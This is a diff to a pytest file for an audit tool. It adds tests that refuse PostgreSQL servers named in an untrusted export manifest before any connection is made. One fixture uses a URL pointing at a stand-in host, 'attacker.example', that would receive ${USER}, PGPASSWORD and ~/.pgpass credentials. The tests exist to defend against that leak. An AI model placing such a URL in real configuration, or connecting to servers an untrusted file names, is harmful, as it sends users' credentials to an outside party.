@@ -84,7 +84,7 @@ def test_manifest_sources(policy, tmp_path):
     folder = _manifest(tmp_path, "period: 2026-10\nsources:\n"
                                  "  inquiries: {url: 'postgresql://auditor@db/ops', table: crm.inquiries}\n"
                                  "  followups: {url: 'sqlite:///local.db', query: 'SELECT * FROM f ORDER BY id'}\n")
-    sources = from_manifest(folder, policy)
+    sources = from_manifest(folder, policy, trust_servers=True)
     assert sources["inquiries"].table == "crm.inquiries"
     assert sources["followups"].query == "SELECT * FROM f ORDER BY id"
     assert sources["followups"].url.sqlite_path() == folder / "local.db"  # relative to the export folder
@@ -107,6 +107,34 @@ def test_manifest_problems_are_reported_together_with_their_places(policy, tmp_p
         "database file inside it (name one elsewhere with --source)",
         f'{manifest}:4:3: sources: "meeting": the policy has no dataset "meeting" — did you mean "meetings"?',
     ]
+
+
+def test_a_server_the_export_names_is_not_connected_to_unless_trusted(policy, tmp_path):
+    # An export is untrusted: connecting to the server its export.yaml names would send
+    # that server PGPASSWORD, ~/.pgpass's password and any ${VAR} the URL names.
+    folder = _manifest(tmp_path, "sources:\n"
+                                 "  inquiries: {url: 'postgresql://${USER}@attacker.example/x'}\n"
+                                 "  followups: {url: 'sqlite:///local.db'}\n")
+    with pytest.raises(DataError) as caught:
+        from_manifest(folder, policy)
+    # The url's value starts at column 20: 2 spaces + "inquiries: {url: " (17), then its quote.
+    assert str(caught.value) == (
+        f'{folder / "export.yaml"}:2:20: sources: "inquiries" connects to a PostgreSQL server the export names '
+        "(postgresql://${USER}@attacker.example/x), which would be sent your credentials "
+        "(PGPASSWORD, ~/.pgpass, the ${VAR}s in its URL); if you trust this export, pass --trust-export-sources, "
+        "or name the server yourself with --source")
+    # Trusted, or given otherwise on the command line, it is not refused; SQLite inside the folder never is.
+    assert set(from_manifest(folder, policy, trust_servers=True)) == {"inquiries", "followups"}
+    assert set(from_manifest(folder, policy, overridden=frozenset({"inquiries"}))) == {"inquiries", "followups"}
+
+
+def test_the_audit_refuses_an_untrusted_server_before_connecting(policy, tmp_path, monkeypatch):
+    import clausewise
+
+    monkeypatch.setenv("PGPASSWORD", "secret")
+    folder = _manifest(tmp_path, "sources:\n  inquiries: {url: 'postgresql://auditor@127.0.0.1:1/x'}\n")
+    with pytest.raises(DataError, match="pass --trust-export-sources"):
+        clausewise.audit(policy, folder)
 
 
 def test_both_table_and_query_is_refused(policy, tmp_path):
